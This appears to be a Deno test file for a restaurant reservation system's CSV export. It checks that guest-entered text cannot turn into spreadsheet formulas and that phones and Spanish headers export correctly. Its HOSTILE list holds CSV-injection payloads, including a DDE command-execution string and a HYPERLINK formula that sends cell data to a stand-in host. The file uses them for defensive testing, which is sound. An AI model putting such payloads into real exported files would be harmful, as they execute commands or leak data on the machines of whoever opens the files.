import { assert, assertEquals, assertMatch } from "@std/assert";
import { parse } from "deno-std/csv/parse.js";
import { normalisePhone } from "../../../src/domain/contact.ts";
import { VALUE_NAMES } from "../../../src/domain/reservation/reservation.ts";
import { RESERVATION_COLUMNS } from "../../../src/storage/book/columns.ts";
import { CSV_HEAD, csvLine, csvLines, spreadsheetPhone } from "../../../src/staff/data/csv.ts";
import { instantOf } from "../../support/restaurant_fixture.ts";
import { sampleReservation } from "../_board_pages.ts";
import fc from "fast-check";

const MERIDA = "America/Merida";
const FORMULA_STARTS = /^[\s\p{Cf}"]*[=+\-@＝＋－＠﹦﹢﹣﹫⁼⁺⁻₌₊₋−]/u;

/** Guests' words that spreadsheets have been harmed with. */
const HOSTILE = [
  "=1+1",
  '=HYPERLINK("http://x.test/?"&A1,"clic")',
  "=cmd|' /C calc'!A0",
  "+52 999",
  "-2+3",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u200b=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "﹦1",
  '"=1+1',
  '",=1+1,"',
  "hola;=1+1",
  "hola\t=1+1",
  "hola\n=1+1",
  'hola;"=1+1"',
];

Deno.test("no cell is a formula, whichever separator the spreadsheet believes in", () => {
  for (const text of HOSTILE) {
    const line = csvLine(["R-7K3M9QAB", text, 4]);
    const [cells] = parse(line) as string[][];
    assertEquals(cells?.length, 3, line);
    assert(!FORMULA_STARTS.test(cells![1]!), line);
    for (const cut of line.split(/[;\t\r\n|]/).slice(1)) assert(!FORMULA_STARTS.test(cut), line);
  }
});

Deno.test("any text comes back as it was, but for the apostrophes that take the sting out of it", () => {
  const text = fc.string({ unit: fc.constantFrom(..."=+-@＝;,\"'\t\n a1ñ👩") });
  fc.assert(fc.property(fc.array(text, { minLength: 2, maxLength: 5 }), (texts) => {
    const rows = parse(csvLine(texts)) as string[][];
    assertEquals(rows.length, 1);
    const bare = (cells: readonly string[]) => cells.map((cell) => cell.replaceAll("'", ""));
    assertEquals(bare(rows[0]!), bare(texts));
    assert(rows[0]!.every((cell) => !FORMULA_STARTS.test(cell) && !/^[\t\r\n]/.test(cell)));
  }));
});

Deno.test("what a spreadsheet opens has Spanish columns, and a phone it cannot take for a number", () => {
  const text = CSV_HEAD + csvLines([
    sampleReservation({
      comments: 'Alergia a la nuez;\ncumple de "Lupita"',
      occasion: "cumpleanos",
      status: "arrived",
      table: "12",
      arrivedAt: instantOf("2026-03-14T20:37"),
      left: "2026-03-14T22:15",
      acknowledged: { by: "Rosa", at: instantOf("2026-03-10T12:05") },
    }),
    sampleReservation({
      name: "=1+1",
      phone: null,
      source: "personal",
      day: "2026-03-15",
      time: "00:30",
    }),
  ], MERIDA);
  assertEquals(text.slice(0, 6), "\ufeffFolio");
  assertEquals(text.replaceAll("\r\n", "").includes("\r"), false);
  const [head, first, second] = parse(text) as string[][];
  assertEquals(
    head!.join("|"),
    "Folio|Día|Hora|Personas|Nombre|Teléfono|Ocasión|Comentarios|Día de servicio|Estado|" +
      "Nota|Origen|Recibida|Mesa|Llegó|Se fue|Vista por|Vista el",
  );
  assertEquals(
    first!.join("|"),
    "R-7K3M9QAB|2026-03-14|20:30|4|Guadalupe Pech|(+52) 999 123 4567|cumpleaños|" +
      'Alergia a la nuez;\ncumple de "Lupita"|2026-03-14|ya llegó|||2026-03-10 12:00|12|2026-03-14 20:37|2026-03-14 22:15|Rosa|2026-03-10 12:05',
  );
  assertEquals(
    second!.slice(1, 8).join("|"),
    "2026-03-15|00:30|4|'=1+1||general|",
  );
});

Deno.test("every column of a reservation that the database has is exported", () => {
  const { guest, staff, fixed: { version: _, ...fixed } } = RESERVATION_COLUMNS;
  assertEquals(
    Object.keys(VALUE_NAMES).sort(),
    ["arrivedAt", ...Object.keys({ ...guest, ...staff, ...fixed })].sort(),
  );
});

Deno.test("a phone in a cell is text that reads back as the number", () => {
  const phones = {
    "+529991234567": "(+52) 999 123 4567",
    "+12125550123": "(+1) 212 555 0123",
    "+34612345678": "(+34) 612345678",
    "+50212345678": "(+502) 12345678",
    "+79161234567": "(+7) 916 123 4567",
    "+3531234567": "(+353) 1234567",
  };
  for (const [phone, shown] of Object.entries(phones)) {
    assertEquals(spreadsheetPhone(phone), shown);
    assertEquals(normalisePhone(shown), phone);
    assertMatch(csvLine([shown]), /^\(\+\d/);
  }
});
